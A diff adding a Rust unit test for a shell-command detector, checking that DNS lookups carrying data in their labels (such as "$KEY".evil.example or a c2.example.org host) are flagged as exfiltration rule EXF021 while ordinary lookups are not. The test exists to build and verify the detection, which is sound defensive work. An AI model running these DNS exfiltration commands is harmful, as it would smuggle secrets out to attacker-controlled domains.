@@ -232,6 +232,26 @@ fn what_a_credential_store_prints_is_a_secret_whatever_the_variable_is_called() 
 }
 
 #[test]
+fn a_dns_label_named_for_the_data_it_carries_is_exfiltration() {
+    for cmd in [
+        "nslookup -type=txt \"$KEY\".evil.example",
+        "dig +short \"${CHUNK3}.t.example.net\" TXT",
+        "host \"$b64_part.c2.example.org\"",
+    ] {
+        assert_eq!(rules(cmd), vec!["EXF021"], "{cmd}");
+    }
+    for cmd in [
+        "dig +short \"$DOMAIN\"",
+        "dig TXT \"_dmarc.$DOMAIN\"",
+        "nslookup \"$HOST.example.com\"",
+        "dig \"$KEY.$ZONE\"",
+        "nslookup \"$KEY\"",
+    ] {
+        assert!(rules(cmd).is_empty(), "{cmd}: {:?}", rules(cmd));
+    }
+}
+
+#[test]
 fn a_vendors_tool_token_sent_to_that_vendor_is_api_use() {
     for script in [
         "TOKEN=$(gcloud auth print-access-token)\ncurl -H \"Authorization: Bearer $TOKEN\" https://us-central1-aiplatform.googleapis.com/v1/x",
